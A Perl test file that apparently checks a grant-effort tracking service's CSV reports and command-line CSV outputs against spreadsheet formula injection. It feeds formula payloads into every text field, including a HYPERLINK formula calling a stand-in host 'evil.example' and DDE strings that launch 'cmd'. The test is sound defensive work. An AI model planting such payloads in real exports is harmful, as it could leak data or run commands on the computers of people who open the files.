# CSV outputs are safe to open in a spreadsheet (issue 11): a payload that a
# spreadsheet would run as a formula (=, +, -, @, tab) is put through the
# feeds and the API into every text field (person ids, names, emails, line
# managers, grant refs, titles, funders, activity codes, amendment reasons,
# reject reasons, token labels), then EVERY CSV report and EVERY effortctl
# --format csv output is parsed (RFC 4180) and checked: no text cell begins
# with =, +, -, @, tab or CR unless it carries the leading ' (the OWASP
# defence), numeric cells are plain numbers (a negative number is not
# prefixed), and each payload shows up neutralised where its column is
# shown.  The CR case (feeds refuse control characters in text) is in
# tests/unit/test_output.c.
use strict;
use warnings;
use utf8;

use FindBin;
use lib "$FindBin::Bin/../lib";
use Test::More;
use EffortTest qw(new_db start_effortd psql psql_value post_feed json_encode effortctl);

my $db = new_db();
my $d = start_effortd(db => $db);

my ($M, $S1, $S2, $S3) = ('@M1', '-S1', '+S2', '=S3');
my ($G1, $G2) = ('=GR/1', '-GR/2');
my %payload = (
	manager_name => '=HYPERLINK("http://evil.example/?leak","Manager")',
	# A leading tab is trimmed from a name (docs/api.md: free text has no
	# blanks at either end), so it never reaches a CSV: a tab after the +.
	# A cell that begins with a tab is escaped: tests/unit/test_output.c.
	s1_name => "+\tTabbed Name",
	s2_name => q{-2+3+cmd|' /C calc'!A0},
	s3_name => q{@SUM(1+1)*cmd|' /C calc'!A0},
	email => '=m1@example.org',
	title1 => '+Title one',
	title2 => "\tTitle two",
	funder => '@UKRI',
	activity => '+research',
	activity2 => '-teaching prep',
	activity3 => '@other',
	amendment => '=amended, with a comma "and quotes"',
	reject => '@reject: =1+1',
	label => '=token label',
);

sub person {
	my ($id, $name, $lm, %x) = @_;
	return { person_id => $id, name => $name, fte => 1, employment_start => '2020-01-06',
		defined $lm ? (line_manager_id => $lm) : (), %x };
}
sub feed_ok {
	my ($feed, $body) = @_;
	my ($s, $j) = post_feed($d, $feed => $body);
	is $s, 200, "setup: $feed" or diag json_encode($j);
}
feed_ok(people => [
	person($M, $payload{manager_name}, undef, email => $payload{email}),
	person($S1, $payload{s1_name}, $M, email => '+s1@example.org'),
	person($S2, $payload{s2_name}, $M),
	person($S3, $payload{s3_name}, $M),
]);
feed_ok(grants => [
	{ grant_ref => $G1, title => $payload{title1}, funder => $payload{funder},
	  start_date => '2025-01-01', end_date => '2026-12-31' },
	{ grant_ref => $G2, title => $payload{title2}, funder => '=EPSRC',
	  start_date => '2025-01-01', end_date => '2026-12-31' },
]);
feed_ok(assignments => [
	{ person_id => $S1, grant_ref => $G1, role => 'pi', cost_type => 'DI', start_date => '2025-01-01', fte_share => 0.5 },
	{ person_id => $S2, grant_ref => $G2, role => 'researcher', cost_type => 'DI', start_date => '2025-01-01', fte_share => 1 },
	{ person_id => $S3, grant_ref => $G1, role => 'co_i', cost_type => 'DA', start_date => '2025-01-01', fte_share => 0.2,
	  estimated_hours_per_year => 100 },
]);
feed_ok(charges => [
	{ person_id => $S1, grant_ref => $G1, month => '2025-01', fte_fraction => 0.5 },
	{ person_id => $S1, grant_ref => $G1, month => '2025-02', fte_fraction => 0.5 },
	{ person_id => $S2, grant_ref => $G2, month => '2025-01', fte_fraction => 1 },
	{ person_id => $S3, grant_ref => $G1, month => '2025-01', hours => 10 },
]);
# January 2025: 23 weekdays, 172.5 h at 1.0 FTE.
sub sheet {
	my ($p, $entries, %x) = @_;
	return { person_id => $p, period_start => '2025-01-01', period_end => '2025-01-31',
		submitted_at => '2025-02-01T10:00:00Z', entries => $entries, %x };
}
feed_ok(timesheets => [
	sheet($S1, [ { kind => 'grant', activity => $G1, hours => 86.25 },
		{ kind => 'research', activity => $payload{activity}, hours => 86.25 } ],
		authorised_by => $M, authorised_at => '2025-02-03T10:00:00Z'),
	sheet($S2, [ { kind => 'grant', activity => $G2, hours => 172.5 } ]),
	sheet($S3, [ { kind => 'grant', activity => $G1, hours => 10 },
		{ kind => 'teaching', activity => $payload{activity2}, hours => 100 },
		{ kind => 'other', activity => $payload{activity3}, hours => 62.5 } ],
		authorised_by => $M, authorised_at => '2025-02-03T10:00:00Z'),
]);
# A second version of S1's, with an amendment reason.
feed_ok(timesheets => [
	sheet($S1, [ { kind => 'grant', activity => $G1, hours => 90 },
		{ kind => 'research', activity => $payload{activity}, hours => 82.5 } ],
		submitted_at => '2025-02-10T10:00:00Z', amendment_reason => $payload{amendment}),
]);
my $manager = $d->token('manager', $M);
my $s2_id = psql_value($db, "SELECT timesheet_id FROM timesheets WHERE person_id = '$S2'");
my $s1_id = psql_value($db, "SELECT max(timesheet_id) FROM timesheets WHERE person_id = '$S1'");
my ($rc, $out, $err) = effortctl($d, { token => $manager }, 'reject', $s2_id, '--reason', $payload{reject});
is $rc, 0, 'setup: the manager rejects S2\'s timesheet' or diag $err;
($rc, $out, $err) = effortctl($d, 'token', 'create', 'reviewer', '--label', $payload{label});
is $rc, 0, 'setup: a token with a label' or diag $err;

# ---------------------------------------------------------------- CSV parsing

# RFC 4180 rows of a CSV text (a leading byte-order mark dropped).
sub parse_csv {
	my ($text) = @_;
	$text =~ s/\A\x{FEFF}//;
	$text =~ s/\A\xEF\xBB\xBF//;
	my (@rows, @row, $cell, $quoted);
	my $i = 0;
	my $n = length $text;
	$cell = '';
	while ($i < $n) {
		my $c = substr $text, $i, 1;
		if ($quoted) {
			if ($c eq '"') {
				if (substr($text, $i + 1, 1) eq '"') { $cell .= '"'; $i += 2; next }
				$quoted = 0;
			} else {
				$cell .= $c;
			}
			$i++;
			next;
		}
		if ($c eq '"' && $cell eq '') { $quoted = 1 }
		elsif ($c eq ',') { push @row, $cell; $cell = '' }
		elsif ($c eq "\r" && substr($text, $i + 1, 1) eq "\n") { push @row, $cell; push @rows, [@row]; @row = (); $cell = ''; $i++ }
		elsif ($c eq "\n") { push @row, $cell; push @rows, [@row]; @row = (); $cell = '' }
		else { $cell .= $c }
		$i++;
	}
	push @row, $cell if $cell ne '' || @row;
	push @rows, [@row] if @row;
	return \@rows;
}

my %seen;       # every cell of every CSV checked
my %negative;    # "output: column" => a negative number seen there

# Checks one CSV output: a header and rows of its width; every cell safe.
sub csv_safe {
	my ($name, $text) = @_;
	my $rows = parse_csv($text);
	ok @$rows >= 2, "$name: a header and at least one row" or diag $text;
	my $width = @{ $rows->[0] };
	my @bad;
	for my $r (1 .. $#$rows) {
		push @bad, "row $r has " . scalar(@{ $rows->[$r] }) . " cells, not $width" if @{ $rows->[$r] } != $width;
		for my $c (0 .. $#{ $rows->[$r] }) {
			my $v = $rows->[$r][$c];
			$seen{$v}++;
			next unless $v =~ /\A[=+\-\@\t\r]/;
			if ($v =~ /\A-\d+(\.\d+)?([eE][-+]?\d+)?\z/) {
				$negative{"$name: $rows->[0][$c]"} = $v;
				next;
			}
			push @bad, "row $r, column $rows->[0][$c]: " . json_encode($v);
		}
	}
	ok !@bad, "$name: no cell begins with =, +, -, @, tab or CR unneutralised" or diag join "\n", @bad;
	my @numeric_bad;
	for my $c (0 .. $width - 1) {
		next unless $rows->[0][$c] =~ /\A(hours|total_hours|charged|recorded|evidenced|unevidenced|cap|grant_hours|headroom|projection|finding_hours|count|id|version|employed_days|year_days|required|submitted|late|invalid|overdue|missing|accepted|created|updated|unchanged|days_left)\z/;
		for my $r (1 .. $#$rows) {
			my $v = $rows->[$r][$c] // '';
			push @numeric_bad, "$rows->[0][$c]: '$v'" unless $v eq '' || $v =~ /\A-?\d+(\.\d+)?([eE][-+]?\d+)?\z/;
		}
	}
	ok !@numeric_bad, "$name: numeric columns hold plain numbers" or diag join "\n", @numeric_bad;
}

sub report_csv {
	my ($path) = @_;
	my ($s, $body, $res) = $d->req(GET => $path, token => $d->token('reviewer'));
	is $s, 200, "GET $path: 200" or diag $body;
	like $res->{headers}{'content-type'}, qr{^text/csv}, '… CSV';
	csv_safe($path, $res->{content});
}

# Every CSV report.
my $g1 = '%3DGR%2F1';
my $g2 = '-GR%2F2';
report_csv("/v1/reports/grants/$g1?format=csv&as_of=2025-06-01");
report_csv("/v1/reports/grants/$g2?format=csv&as_of=2025-06-01");
report_csv("/v1/reports/grants/$g1/evidence?format=csv&as_of=2025-06-01");
report_csv("/v1/reports/grants/$g2/evidence?format=csv&as_of=2025-06-01");
report_csv('/v1/reports/investigators?year=2025&format=csv&as_of=2025-06-01');
report_csv('/v1/reports/compliance?from=2025-01-01&to=2025-12-31&format=csv&as_of=2025-06-01');

# Every effortctl CSV output.
sub ctl_csv {
	my ($opt, @args) = @_;
	my ($c, $o, $e) = effortctl($d, $opt, @args, '--format', 'csv');
	ok $c == 0 || $c == 1, "effortctl @args --format csv: exit $c" or diag $e;
	csv_safe("effortctl @args", $o);
}
ctl_csv({}, 'timesheets');
ctl_csv({}, 'timesheet', $s1_id);
ctl_csv({}, 'timesheet', $s2_id);
ctl_csv({}, 'violations', '--as-of', '2025-06-01');
ctl_csv({}, 'violations', '--as-of', '2025-06-01', '--summary');
ctl_csv({ token => $manager }, 'pending');
ctl_csv({}, 'audit', 'log');
ctl_csv({}, 'token', 'list');
ctl_csv({}, 'reminders', '--dry-run');
{
	my ($c, $o, $e) = effortctl($d, { stdin => "person_id,name,fte,employment_start\r\n$S3,\"$payload{s3_name}\",1,2020-01-06\r\n",
		token => $d->token('feed') }, '--format', 'csv', 'ingest', 'people', '-');
	is $c, 0, 'effortctl --format csv ingest people -: exit 0' or diag $e;
	csv_safe('effortctl ingest', $o);
}
{
	my ($c, $o, $e) = effortctl($d, 'report', 'grant', $G1, '--as-of', '2025-06-01', '--format', 'csv');
	is $c, 0, 'effortctl report grant =GR/1 --format csv: exit 0' or diag $e;
	csv_safe('effortctl report grant', $o);
}

# Each payload was shown, neutralised, where its column is shown.
for my $k (qw(manager_name s1_name s2_name s3_name email activity activity2 activity3 amendment reject label)) {
	ok $seen{"'$payload{$k}"}, "the $k payload appears as '" . json_encode($payload{$k}) . " in some CSV";
	ok !$seen{ $payload{$k} }, '… and never bare';
}
for my $id ($M, $S1, $S2, $S3, $G1, $G2) {
	ok $seen{"'$id"}, "the id $id appears as '$id";
	ok !$seen{$id}, '… and never bare';
}
# A negative number is a number: days_left of an overdue timesheet.
like $negative{'effortctl pending: days_left'} // '', qr/\A-\d+\z/,
	'a negative number (pending days_left) is written as a plain number, not prefixed';

done_testing();
